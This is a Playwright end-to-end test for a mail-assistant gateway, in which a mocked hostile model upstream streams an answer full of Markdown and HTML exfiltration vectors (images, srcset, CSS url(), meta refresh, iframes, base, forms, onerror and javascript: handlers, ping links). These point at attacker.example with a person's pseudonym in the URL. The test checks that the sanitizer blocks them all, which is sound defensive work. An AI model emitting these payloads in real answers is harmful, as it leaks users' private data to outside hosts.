/**
 * Model output cannot reach outside. A hostile OpenAI-wire upstream (the gateway's provider, pseudonymization on)
 * answers with every known way of making a browser fetch something: Markdown and reference images, raw <img src /
 * srcset>, <picture>, <video poster>, <audio>, <source>, <table background>, CSS url() in style attributes and
 * <style>, <link>, <meta refresh>, <object>, <embed>, <iframe>, SVG <image>, <input type=image>, <base>, <form>, event
 * handlers and javascript: links — with the placeholder of a person named in the mail in the URL, so that the gateway
 * puts the real name back into it. In headless Chromium on /preview: no request leaves the origin
 * (`page.on('request')`), no dialog opens, the answer keeps no class/id/style/name, and images show as their alt
 * text; the same once the answer is inserted into the draft and opened as a reply.
 */
import type { Dialog, Request } from 'playwright-core';
import type { RecordedRequest } from '../helpers/openai-upstream';
import { answerShown, eventually, modelSuite, summarizeMail } from './slice-helpers';

jest.setTimeout(180_000);

const EVIL = 'https://attacker.example';

/** The answer, built from the request: the placeholder the gateway gave the doctor's name rides in every URL. */
function hostileAnswer(request: RecordedRequest): string[] {
  const text = (request.body.messages ?? []).map((m) => m.content).join('\n');
  const who = /\[PERSONNE_\d+\]/.exec(text)?.[0] ?? 'nobody';
  const leak = (what: string) => `${EVIL}/${what}?d=${who}`;
  const answer = [
    '## Résumé',
    '',
    `Texte normal, **gras**, [un lien](https://www.has-sante.fr/) et ![alt-markdown](${leak('md.png')}).`,
    '',
    `Image par référence : ![alt-reference][ref]`,
    '',
    `[ref]: ${leak('ref.png')}`,
    '',
    `<img src="${leak('img.png')}" alt="alt-raw-img"> <img srcset="${leak('srcset.png')} 1x, ${leak('srcset2.png')} 2x" alt="alt-srcset">`,
    `<picture><source srcset="${leak('picture.png')}"><img alt="alt-picture" src="${leak('picture-img.png')}"></picture>`,
    `<video poster="${leak('poster.png')}" src="${leak('video.mp4')}" autoplay></video>`,
    `<audio src="${leak('audio.mp3')}" autoplay></audio><video><source src="${leak('source.mp4')}"></video>`,
    `<table background="${leak('table-bg.png')}"><tr><td background="${leak('td-bg.png')}">cellule</td></tr></table>`,
    `<div style="background-image:url(${leak('style-attr.png')})">fond</div>`,
    `<style>@import url(${leak('import.css')}); p { background: url(${leak('style-tag.png')}) }</style>`,
    `<link rel="stylesheet" href="${leak('link.css')}"><link rel="prefetch" href="${leak('prefetch')}">`,
    `<meta http-equiv="refresh" content="0;url=${leak('refresh')}">`,
    `<object data="${leak('object.swf')}"></object><embed src="${leak('embed.swf')}"><iframe src="${leak('iframe.html')}"></iframe>`,
    `<svg><image href="${leak('svg-image.png')}" /></svg><input type="image" src="${leak('input.png')}">`,
    `<base href="${EVIL}/base/"><a href="relative-after-base">relatif</a>`,
    `<form action="${leak('form')}"><button>Envoyer</button></form>`,
    `<img src="x" onerror="alert('onerror')"><a href="javascript:alert('js')">js</a><details open ontoggle="alert('toggle')">d</details>`,
    `<div class="fui-MessageBar" id="root" name="x" style="position:fixed;inset:0">faux message</div>`,
    `<a href="https://example.org/" ping="${leak('ping')}">ping</a>`,
    '',
    'Fin.',
  ].join('\n');
  // In small pieces, as a model streams: vectors arrive cut across chunks.
  const pieces: string[] = [];
  for (let i = 0; i < answer.length; i += 37) pieces.push(answer.slice(i, i + 37));
  return pieces;
}

const outside: string[] = [];
const dialogs: string[] = [];

const suite = modelSuite(
  { privacy: 'pseudonymize' },
  async ({ preview, server, upstream }) => {
    upstream.fallback = { type: 'reply', chunks: hostileAnswer };
    const origin = new URL(server.url).origin;
    preview.page.on('request', (r: Request) => {
      const url = r.url();
      if (!url.startsWith(origin + '/') && !url.startsWith('data:') && !url.startsWith('blob:')) outside.push(url);
    });
    preview.page.on('dialog', (d: Dialog) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    // A request stopped by the page's CSP never fires 'request': the violations are counted too, so that this test
    // fails when the sanitizer lets a vector through, even though the CSP (the second line) holds.
    await preview.page.evaluate(() => {
      const w = window as unknown as { cspViolations: string[] };
      w.cspViolations = [];
      document.addEventListener('securitypolicyviolation', (e) => w.cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
    });
    await preview.page.selectOption('[data-testid=role]', 'secretary');
  },
);

test('every hostile vector in a streamed answer: no request leaves the origin, no dialog, images as alt text', async () => {
  const { page } = suite.preview;
  await summarizeMail(page, 'cardio-consultations');
  // The gateway put the doctor's name back into the answer (so the URLs carried it): the leak would be real.
  const sent = suite.upstream.requests.at(-1)!.body.messages!.map((m) => m.content).join('\n');
  expect(sent).toMatch(/\[PERSONNE_\d+\]/);
  expect(sent).not.toContain('Lemoine');

  const content = page.locator('[data-testid=answer-content]');
  const text = (await content.textContent()) ?? '';
  for (const alt of ['alt-markdown', 'alt-reference', 'alt-raw-img', 'alt-srcset', 'alt-picture']) expect(text).toContain(alt);
  expect(text).toContain('Fin.');
  // Nothing that loads, embeds, frames or submits; no attribute that loads or restyles.
  const forbidden = 'img, picture, source, video, audio, object, embed, iframe, svg, image, style, link, meta, base, form, input, button, script';
  expect(await content.locator(forbidden).count()).toBe(0);
  const attributes = await content.evaluate((root) => [...root.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => `${el.tagName.toLowerCase()}[${a.name}]`)));
  expect(attributes.filter((a) => /\[(class|id|style|name|src|srcset|poster|background|ping|on\w+)\]$/.test(a))).toEqual([]);
  const hrefs = await content.locator('a[href]').evaluateAll((links) => links.map((a) => a.getAttribute('href')));
  expect(hrefs.every((h) => /^https?:|^mailto:/.test(h ?? ''))).toBe(true);
  // The fake overlay did not take the page's classes or position.
  expect(await page.locator('#root').count()).toBe(1);

  await page.waitForTimeout(500);
  expect(outside).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations)).toEqual([]);
});

test('the same answer opened as a reply and inserted into a draft: still nothing leaves', async () => {
  const { page } = suite.preview;
  await page.click('[data-testid=answer-reply]');
  await page.waitForSelector('[data-testid=reply-form]');
  await eventually(async () => expect(await page.textContent('[data-testid=reply-body]')).toContain('alt-markdown'));
  expect(await page.locator('[data-testid=reply-body] img, [data-testid=reply-body] video, [data-testid=reply-body] style').count()).toBe(0);

  await page.click('[data-testid=mail-brouillon-reponse]');
  await page.waitForSelector('[data-testid=pane][data-mode=compose]');
  await page.click('[data-testid=back]').catch(() => undefined);
  await page.click('[data-testid=open-polish-draft]');
  await page.click('[data-testid=run-generate]');
  await answerShown(page);
  await page.click('[data-testid=answer-insert]');
  await eventually(async () => expect(await page.textContent('[data-testid=mail-body]')).toContain('alt-raw-img'));
  expect(await page.locator('[data-testid=mail-body] img, [data-testid=mail-body] video, [data-testid=mail-body] audio').count()).toBe(0);

  await page.waitForTimeout(500);
  expect(outside).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations)).toEqual([]);
});
